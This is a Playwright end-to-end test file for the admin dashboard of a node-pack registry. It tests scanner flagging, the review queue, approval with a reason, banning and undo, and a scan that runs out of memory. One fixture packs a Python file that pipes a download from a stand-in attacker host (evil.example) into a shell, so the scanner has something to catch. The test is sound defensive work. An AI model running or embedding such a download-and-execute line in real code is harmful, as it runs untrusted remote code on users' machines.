import { type APIRequestContext } from '@playwright/test';
import { expect as baseExpect, test } from './support/test.ts';
import { strToU8, zipSync } from 'fflate';
import { ADMIN_EMAIL, ensureAccount, stamp } from './support/accounts.ts';
import { openSignedIn } from './support/session.ts';
import { axeViolations } from './support/axe.ts';
import { keepScreenshot } from './support/shot.ts';

// The admin dashboard against the real server: a pack published exactly as comfy-cli does is
// flagged by the scanner, shows up in the review queue with its findings, is approved and becomes
// installable; then the node is banned from the nodes table and leaves search.

// The dashboard hydrates and fetches after load: allow for a busy machine.
const expect = baseExpect.configure({ timeout: 20_000 });

/** A pack the scanner must flag: it pipes a download into a shell. */
function maliciousZip(): Buffer {
  return Buffer.from(
    zipSync({
      '__init__.py': strToU8('from .nodes import NODE_CLASS_MAPPINGS\n'),
      'nodes.py': strToU8(
        'import os\nos.system("curl -s http://evil.example/p.sh | sh")\n\nclass Boom:\n    pass\n\nNODE_CLASS_MAPPINGS = {"Boom": Boom}\n',
      ),
    }),
  );
}

/**
 * A pack whose node-class extraction needs far more than the e2e server's 64 MB analysis heap
 * (ANALYSIS_MAX_HEAP_MB in playwright.config.ts): 150,000 mapped classes.
 */
function memoryHungryZip(): Buffer {
  const mappings = Array.from({ length: 150_000 }, (_, i) => `    "Node${i}": Base,`).join('\n');
  const init = `class Base:\n    pass\n\nNODE_CLASS_MAPPINGS = {\n${mappings}\n}\n`;
  return Buffer.from(zipSync({ '__init__.py': strToU8(init) }));
}

/** A publisher owned by a fresh account, a token, and a version (flagged by default) published like comfy-cli. */
async function publishFlagged(
  request: APIRequestContext,
  zip: Buffer = maliciousZip(),
): Promise<{ nodeId: string; publisherId: string; ownerEmail: string }> {
  const ownerEmail = `admin-pub-${stamp()}@example.test`;
  const token = await ensureAccount(ownerEmail, true);
  const auth = { authorization: `Bearer ${token}` };
  const publisherId = `adm-${stamp()}`;
  expect(
    (await request.post('/api/publishers', { headers: auth, data: { id: publisherId, name: 'Admin Test' } })).status(),
  ).toBe(201);
  const created = await request.post(`/api/publishers/${publisherId}/tokens`, { headers: auth, data: { name: 'ci' } });
  const { token: pat } = (await created.json()) as { token: string };
  const nodeId = `adm-node-${stamp()}`;
  const published = await request.post(`/api/publishers/${publisherId}/nodes/${nodeId}/versions`, {
    data: {
      personal_access_token: pat,
      node: {
        id: nodeId,
        name: `Admin Test ${nodeId}`,
        description: 'flag me',
        repository: `https://github.com/example/${nodeId}`,
      },
      node_version: { version: '1.0.0', dependencies: [] },
    },
  });
  expect(published.status()).toBe(201);
  const { signedUrl } = (await published.json()) as { signedUrl: string };
  expect((await request.put(signedUrl, { headers: { 'content-type': 'application/zip' }, data: zip })).status()).toBe(
    200,
  );
  return { nodeId, publisherId, ownerEmail };
}

test.describe('admin dashboard', () => {
  // The tests share the fixed admin account: one at a time.
  test.describe.configure({ mode: 'serial' });

  test('is personal and shows a 403 view to a signed-in non-admin', async ({ page, request }) => {
    const head = await request.get('/en/admin');
    expect(head.headers()['cache-control']).toBe('private, no-store');
    const email = `not-admin-${stamp()}@example.test`;
    await ensureAccount(email);
    await openSignedIn(page, email, '/en/admin', { timeout: 20_000 });
    await expect(page.getByTestId('admin-forbidden')).toBeVisible();
    await expect(page.getByText('Administrators only')).toBeVisible();
  });

  test('flagged version → review queue with findings → approve (critical: reason) → installable; ban with a reason → undo → ban; the publisher reads why', async ({
    page,
    request,
    browser,
  }) => {
    test.setTimeout(300_000);
    const adminToken = await ensureAccount(ADMIN_EMAIL, true);
    const { nodeId, publisherId, ownerEmail } = await publishFlagged(request);
    // The scan runs in the server's job worker about a second after the upload.
    await expect
      .poll(
        async () => {
          const r = await request.get(`/api/admin/review-queue?nodeId=${nodeId}`, {
            headers: { authorization: `Bearer ${adminToken}` },
          });
          const body = (await r.json()) as { items?: { version: { status: string } }[] };
          return body.items?.[0]?.version.status;
        },
        { timeout: 30_000 },
      )
      .toBe('NodeVersionStatusFlagged');
    expect((await request.get(`/api/nodes/${nodeId}/install`)).status()).toBe(404);

    await openSignedIn(page, ADMIN_EMAIL, `/en/admin/review?nodeId=${nodeId}`, { timeout: 20_000 });
    const item = page.getByTestId('review-item');
    await expect(item).toHaveCount(1);
    await expect(item).toContainText(`${nodeId}@1.0.0`);
    await expect(item).toContainText('nodes.py');
    await expect(item).toContainText('curl');
    expect(await axeViolations(page, { tags: 'all' })).toEqual([]);

    await item.getByLabel('Reason').fill('Reviewed: test fixture');
    await item.getByRole('button', { name: 'Approve', exact: true }).click();
    // The findings are critical: approving asks for its own reason in the app's dialog.
    const confirm = page.getByRole('dialog', { name: `Approve ${nodeId}@1.0.0 despite critical findings?` });
    await expect(confirm).toBeVisible();
    await expect(confirm.getByTestId('confirm-button')).toBeDisabled();
    expect(await axeViolations(page, { tags: 'all' })).toEqual([]);
    await page.keyboard.press('Escape');
    await expect(confirm).toBeHidden();
    await expect(item.getByRole('button', { name: 'Approve', exact: true })).toBeFocused();
    await item.getByRole('button', { name: 'Approve', exact: true }).click();
    await confirm.getByLabel('Why it is safe to approve (required)').fill('The curl line is a test fixture.');
    await confirm.getByRole('button', { name: 'Approve anyway' }).click();
    await expect(page.getByTestId('undo-bar')).toContainText(`Admin Test ${nodeId} 1.0.0 approved.`);
    await expect(page.getByText('Nothing to review.', { exact: false })).toBeVisible();
    const install = await request.get(`/api/nodes/${nodeId}/install`);
    expect(install.status()).toBe(200);
    expect(await install.json()).toMatchObject({ version: '1.0.0', status: 'NodeVersionStatusActive' });

    // The node is searchable, then banned from the nodes table.
    const inSearch = async () =>
      (
        (await (await request.get(`/api/nodes/search?search=${nodeId}`)).json()) as { nodes: { id: string }[] }
      ).nodes.some((n) => n.id === nodeId);
    await expect.poll(inSearch, { timeout: 15_000 }).toBe(true);
    await page.goto(`/en/admin/nodes?search=${nodeId}`);
    const row = page.getByTestId('admin-node-row');
    await expect(row).toHaveCount(1);
    expect(await axeViolations(page, { tags: 'all' })).toEqual([]);
    // Banning asks in the app's dialog (never confirm()), with a reason the publisher reads, and offers Undo.
    page.on('dialog', () => {
      throw new Error('a native dialog opened');
    });
    const banDialog = page.getByRole('dialog', { name: `Ban node ${nodeId}?` });
    await row.getByRole('button', { name: `Ban ${nodeId}` }).click();
    await expect(banDialog).toBeVisible();
    await expect(banDialog.getByTestId('confirm-button')).toBeDisabled();
    await banDialog.getByLabel('Reason (shown to the publisher)').fill('Downloads and runs a remote script.');
    await banDialog.getByRole('button', { name: 'Ban node' }).click();
    await expect(page.getByTestId('undo-bar')).toContainText(`Node ${nodeId} banned.`);
    await expect(row).toContainText('Banned');
    await page.getByTestId('undo-bar').getByRole('button', { name: 'Undo' }).click();
    await expect(row).not.toContainText('Banned');
    await row.getByRole('button', { name: `Ban ${nodeId}` }).click();
    await banDialog.getByLabel('Reason (shown to the publisher)').fill('Downloads and runs a remote script.');
    await banDialog.getByRole('button', { name: 'Ban node' }).click();
    await expect(row).toContainText('Banned');
    await expect.poll(inSearch, { timeout: 15_000 }).toBe(false);

    // Its publisher reads the reason in the dashboard.
    const ownerContext = await browser.newContext();
    const owner = await ownerContext.newPage();
    await openSignedIn(owner, ownerEmail, '/en/nodes', { timeout: 20_000 });
    await expect(owner.getByTestId('node-ban-reason')).toContainText('Downloads and runs a remote script.');
    expect(publisherId).toMatch(/^adm-/);
    await ownerContext.close();
    await page.goto(`/en/nodes/${nodeId}`);
    await expect(page.getByText('This pack is banned')).toBeVisible();

    // Every action is in the audit log.
    await page.goto(`/en/admin/audit?target_id=${nodeId}`);
    await expect(page.getByTestId('audit-row').first()).toContainText('node.ban');
  });

  test('a pack whose analysis runs out of memory is flagged "scan failed" at once, and the review says why', async ({
    page,
    request,
  }) => {
    test.setTimeout(90_000);
    const adminToken = await ensureAccount(ADMIN_EMAIL, true);
    const { nodeId } = await publishFlagged(request, memoryHungryZip());
    const queueItem = async () => {
      const r = await request.get(`/api/admin/review-queue?nodeId=${nodeId}`, {
        headers: { authorization: `Bearer ${adminToken}` },
      });
      return ((await r.json()) as { items?: { version: { status: string; status_reason: string } }[] }).items?.[0];
    };
    await expect
      .poll(async () => (await queueItem())?.version.status, { timeout: 40_000 })
      .toBe('NodeVersionStatusFlagged');
    expect((await queueItem())?.version.status_reason).toContain('scan failed');

    await openSignedIn(page, ADMIN_EMAIL, `/en/admin/review?nodeId=${nodeId}`, { timeout: 20_000 });
    await expect(page.getByTestId('scan-error')).toHaveText(
      'The scan could not finish: The analysis ran out of memory (limit 64 MB).',
    );
    await expect(page.getByTestId('review-item')).not.toContainText('The scanner found nothing.');
    expect(await axeViolations(page, { tags: 'all' })).toEqual([]);
    // The server survived the thread's death and still answers.
    expect((await request.get('/healthz')).status()).toBe(200);
    await keepScreenshot(page, 'test-results/screenshots/admin-review-scan-failed.png', { fullPage: true });
  });

  test('screenshots: review queue and overview in en, ar, zh, light and dark', async ({ page }) => {
    test.setTimeout(120_000);
    await ensureAccount(ADMIN_EMAIL, true);
    await openSignedIn(page, ADMIN_EMAIL, '/en/admin', { timeout: 20_000 });
    for (const lang of ['en', 'ar', 'zh']) {
      for (const theme of ['light', 'dark']) {
        await page.evaluate((value) => localStorage.setItem('registry-theme', value), theme);
        await page.goto(`/${lang}/admin`);
        await expect(page.locator('#admin-overview-title')).toBeVisible();
        // Loaded: no loading status left on the page.
        await expect(page.getByRole('status')).toHaveCount(0, { timeout: 10_000 });
        await keepScreenshot(page, `test-results/admin-overview-${lang}-${theme}.png`, { fullPage: true });
        await page.goto(`/${lang}/admin/nodes`);
        await expect(page.getByTestId('admin-node-row').first()).toBeVisible();
        await keepScreenshot(page, `test-results/admin-nodes-${lang}-${theme}.png`, { fullPage: true });
        if (theme === 'dark') expect(await axeViolations(page, { tags: 'all' })).toEqual([]);
      }
    }
  });
});
